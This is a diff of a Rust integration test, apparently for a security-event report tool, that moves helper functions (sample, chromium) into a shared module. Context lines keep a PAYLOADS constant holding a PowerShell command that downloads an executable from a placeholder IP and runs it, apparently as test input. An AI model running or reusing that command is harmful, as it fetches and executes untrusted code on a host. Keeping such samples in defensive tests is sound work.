@@ -10,16 +10,15 @@
 //!
 //! `CADET_REPORT_KEEP=DIR` keeps a copy of the generated report there (for screenshots).
 
+mod common;
+use common::{chromium, sample};
+
 use std::collections::HashSet;
 use std::io::Write;
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::process::{Command, Output, Stdio};
 
 use serde_json::Value;
-
-fn root() -> PathBuf {
-    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
-}
 
 fn gzip(data: &[u8]) -> Vec<u8> {
     let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
@@ -167,12 +166,6 @@ const PAYLOADS: [&str; 3] = [
     "powershell.exe -c \"Invoke-WebRequest http://203.0.113.66/a.exe -OutFile C:\\Windows\\Temp\\a.exe; & C:\\Windows\\Temp\\a.exe\"",
 ];
 
-fn sample(rel: &str) -> Value {
-    let text = std::fs::read_to_string(root().join("events").join(rel))
-        .unwrap_or_else(|e| panic!("{rel}: {e}"));
-    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{rel}: {e}"))
-}
-
 fn rfc3339(secs: i64, millis: i64) -> String {
     let t =
         jiff::Timestamp::from_millisecond(secs * 1000 + millis).unwrap_or_else(|e| panic!("{e}"));
@@ -313,22 +306,6 @@ fn write_archive(dir: &Path) -> Vec<String> {
         }
     }
     lines
-}
-
-fn chromium() -> &'static str {
-    ["chromium", "chromium-browser"]
-        .into_iter()
-        .find(|c| {
-            Command::new(c)
-                .arg("--version")
-                .output()
-                .is_ok_and(|o| o.status.success())
-        })
-        .unwrap_or_else(|| {
-            panic!(
-                "chromium is not installed: `make test` installs it (apt-get install -y chromium)"
-            )
-        })
 }
 
 /// `--dump-dom` of `url` in a fresh profile at the given window size.
